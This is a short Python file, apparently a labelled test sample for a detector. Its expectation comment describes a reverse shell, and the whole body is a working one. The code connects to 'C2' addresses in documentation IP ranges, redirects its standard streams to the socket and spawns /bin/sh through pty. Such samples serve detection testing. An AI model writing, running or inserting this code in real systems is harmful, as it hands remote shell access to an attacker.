# expect: network; reverse shell: socket to a host picked from a list, fds dup2'ed, pty.spawn of /bin/sh
import os
import pty
import socket

C2 = [("203.0.113.14", 443), ("198.51.100.20", 8443)]

for host, port in C2:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        continue
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
    break
